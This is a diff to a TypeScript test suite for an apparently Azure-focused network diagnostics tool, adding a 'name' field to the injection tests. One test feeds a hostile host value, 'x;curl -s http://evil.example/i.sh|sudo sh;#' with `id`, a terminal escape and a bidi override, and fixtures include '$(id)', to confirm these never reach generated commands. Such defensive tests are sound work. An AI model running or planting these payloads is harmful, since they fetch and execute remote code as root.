@@ -11,6 +11,7 @@ const PARAMETERS: Readonly<Record<string, readonly (string | number)[]>> = {
   service: ['Azure Storage', 'Azure Backup・Microsoft Entra ID'],
   tag: ['Storage'],
   host: ['login.microsoft.com', '168.63.129.16', '169.254.169.254', '$(id)'],
+  name: ['login.microsoft.com', '$(id)'],
   port: [443, 80, 53, 445, 1433, 1688, 3260, 9443, 32526, 8443],
   count: [1, 12],
   proxy: ['http://10.0.0.4:8080'],
@@ -112,7 +113,7 @@ describe.each(loadDiagnoses())('$id', ({ id, steps, title, titlePossible }) => {
   });
 });
 
-const COMMAND = { count: 2, host: 'a.example', port: 443, service: 'Azure Storage', tag: 'Storage' };
+const COMMAND = { count: 2, host: 'a.example', name: 'a.example', port: 443, service: 'Azure Storage', tag: 'Storage' };
 
 test('steps are those of the machine; both are shown, each with its label, where it is not known', () => {
   const commands = (platform: Platform): string[] =>
@@ -163,7 +164,16 @@ test("a stranger's name becomes neither a command nor a second line", () => {
   const host = 'x;curl -s http://evil.example/i.sh|sudo sh;#\n`id`\u001B]0;owned\u0007\u202E';
   for (const { id } of knowledge.diagnoses) {
     for (const platform of ['linux', 'windows', 'any'] as const) {
-      const given = { ...COMMAND, ...COUNTS, host, server: host, address: host, proxyhost: host, proxyport: host };
+      const given = {
+        ...COMMAND,
+        ...COUNTS,
+        host,
+        name: host,
+        server: host,
+        address: host,
+        proxyhost: host,
+        proxyport: host,
+      };
       const { next, steps, title, summary } = tell(id, 'likely', given, { kind: 'log', platform }, knowledge);
       for (const { command } of steps) expect(command ?? '').not.toMatch(/evil/u);
       for (const step of next) expect(step.split('\n').length).toBeLessThan(3);
